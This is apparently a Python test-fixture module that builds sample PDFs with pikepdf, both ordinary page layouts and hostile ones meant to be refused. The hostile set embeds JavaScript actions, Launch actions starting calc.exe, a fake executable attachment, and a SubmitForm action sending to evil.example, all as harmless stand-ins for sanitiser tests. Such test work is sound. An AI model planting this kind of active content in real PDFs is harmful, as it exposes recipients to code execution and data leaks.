"""PDFs as others make them, plain and hostile, built for the tests."""

import subprocess
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

A4 = (595, 842)


def saved(pdf, **options) -> bytes:
    written = BytesIO()
    pdf.save(written, deterministic_id=not options.get("encryption"), **options)
    return written.getvalue()


def new_page(pdf, text="A paper", *, size=A4, dark=False, **keys) -> Dictionary:
    """Append a page with one line of text to a document and return it."""
    page = pdf.add_blank_page(page_size=size)
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    ground = "0.05 0.1 0.2 rg -9000 -9000 18000 18000 re f 1 g" if dark else ""
    drawn = f"{ground} BT /F1 24 Tf 72 300 Td ({text}) Tj ET"
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(drawn.encode("latin-1"))
    for key, value in keys.items():
        page.obj[f"/{key}"] = value
    return page.obj


def paper(pages=1, text="A paper", *, title="", **keys) -> bytes:
    """Return a document of some pages, each saying the text and its own number."""
    with pikepdf.new() as pdf:
        for number in range(1, pages + 1):
            new_page(pdf, f"{text} {number}", **keys)
        if title:
            pdf.trailer.Info = pdf.make_indirect(Dictionary(Title=String(title)))
        return saved(pdf)


# The shapes that papers of members have come in (each: size and keys of its pages).
SHAPES = {
    "a4": {},
    "slides": {"size": (842, 473), "dark": True},
    "letter": {"size": (612, 792)},
    "rotated": {"Rotate": 90},
    "upside down": {"Rotate": 180},
    "rotated back": {"Rotate": -90},
    "cropped": {"size": (800, 1100), "CropBox": [100, 150, 695, 992]},
    "cropped and rotated": {
        "size": (800, 1100),
        "CropBox": [100, 150, 695, 992],
        "Rotate": 90,
    },
    "shifted": {"MediaBox": [-300, -400, 295, 442]},
    "large units": {"size": (297.5, 421), "UserUnit": 2},
    "small": {"size": (200, 300)},
    "poster": {"size": (2384, 3370)},
}


def shape(name, pages=1) -> bytes:
    keys = dict(SHAPES[name])
    for box in ("CropBox", "MediaBox"):
        if box in keys:
            keys[box] = Array(keys[box])
    return paper(pages, text=name, **keys)


def script(code="app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("calc.exe"))


def annotation(subtype, **keys) -> Dictionary:
    area = Array([72, 280, 300, 330])
    return Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=area, **keys)


def attachment(pdf) -> Dictionary:
    file = pdf.make_stream(b"MZ payload", Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file))


def drawing(pdf, drawn=b"1 0 0 rg 0 0 20 20 re f", **keys) -> Stream:
    box = Array([0, 0, 20, 20])
    return pdf.make_stream(
        drawn, Type=Name.XObject, Subtype=Name.Form, BBox=box, **keys
    )


def raw(*objects: bytes) -> bytes:
    """Return a file of exactly these objects; the first one is its catalogue."""
    written, table = b"%PDF-1.7\n", b"0000000000 65535 f \n"
    for number, each in enumerate(objects, start=1):
        table += b"%010d 00000 n \n" % len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    size = len(objects) + 1
    return written + (
        b"xref\n0 %d\n%strailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n"
        % (size, table, size, len(written))
    )


def lines_of(content) -> list[str]:
    """Return the lines of text that a reader of the document sees."""
    done = subprocess.run(
        ["pdftotext", "-", "-"], input=content, capture_output=True, check=True
    )
    lines = done.stdout.decode().replace("\f", "\n").split("\n")
    return [line.strip() for line in lines if line.strip()]


# --- What is refused -----------------------------------------------------------------


def _open_action(pdf, page):
    pdf.Root.OpenAction = script()


def _named_script(pdf, page):
    tree = Dictionary(Names=Array([String("a"), script()]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def _page_script(pdf, page):
    page.AA = Dictionary(O=script())


def _chained_script(pdf, page):
    chain = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))
    chain.Next = Array([Dictionary(S=Name.Named, N=Name.NextPage, Next=script())])
    page.Annots = Array([annotation("/Link", A=chain)])


def _script_by_another_name(pdf, page):
    action = Dictionary(S=pdf.make_indirect(Name.JavaScript), JS=String("1"))
    page.AA = Dictionary(O=action)


def _script_of_a_field(pdf, page):
    field = annotation("/Widget", FT=Name.Tx, T=String("x"), AA=Dictionary(K=script()))
    field = pdf.make_indirect(field)
    page.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def _launching_link(pdf, page):
    page.Annots = Array([annotation("/Link", A=launch())])


def _launching_bookmark(pdf, page):
    item = pdf.make_indirect(Dictionary(Title=String("x"), A=launch()))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))


def _embedded_file(pdf, page):
    tree = Dictionary(Names=Array([String("a"), attachment(pdf)]))
    pdf.Root.Names = Dictionary(EmbeddedFiles=tree)


def _pinned_file(pdf, page):
    page.Annots = Array([annotation("/FileAttachment", FS=attachment(pdf))])


def _associated_file(pdf, page):
    page.AF = Array([attachment(pdf)])


def _xfa(pdf, page):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def _rich_media(pdf, page):
    page.Annots = Array([annotation("/RichMedia", RichMediaContent=Dictionary())])


def _three_d(pdf, page):
    page.Annots = Array([annotation("/3D")])


def _screen(pdf, page):
    rendition = Dictionary(S=Name.Rendition, OP=0)
    page.Annots = Array([annotation("/Screen", A=rendition)])


def _sound(pdf, page):
    page.Annots = Array([annotation("/Sound", Sound=pdf.make_stream(b"la"))])


def _movie(pdf, page):
    page.Annots = Array([annotation("/Movie", Movie=Dictionary(F=String("a.avi")))])


def _submit(pdf, page):
    send = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    page.Annots = Array([annotation("/Link", A=send)])


def _import_data(pdf, page):
    page.AA = Dictionary(O=Dictionary(S=Name.ImportData, F=String("a.fdf")))


SCRIPT, PROGRAM = "scripts (JavaScript)", "links that start programs"
ATTACHED, MEDIA = "attached files", "video, sound or 3D"
SENDING = "buttons that send or fetch data"
ACTIVE = {
    "open action": (_open_action, SCRIPT),
    "named script": (_named_script, SCRIPT),
    "page script": (_page_script, SCRIPT),
    "chained script": (_chained_script, SCRIPT),
    "script by another name": (_script_by_another_name, SCRIPT),
    "script of a field": (_script_of_a_field, SCRIPT),
    "launching link": (_launching_link, PROGRAM),
    "launching bookmark": (_launching_bookmark, PROGRAM),
    "embedded file": (_embedded_file, ATTACHED),
    "pinned file": (_pinned_file, ATTACHED),
    "associated file": (_associated_file, ATTACHED),
    "xfa": (_xfa, "an XFA form"),
    "rich media": (_rich_media, MEDIA),
    "3D": (_three_d, MEDIA),
    "screen": (_screen, MEDIA),
    "sound": (_sound, MEDIA),
    "movie": (_movie, MEDIA),
    "submit": (_submit, SENDING),
    "import data": (_import_data, SENDING),
}


def active(name, **options) -> bytes:
    """Return a paper with one active thing in it."""
    add, _words = ACTIVE[name]
    with pikepdf.new() as pdf:
        add(pdf, new_page(pdf))
        return saved(pdf, **options)
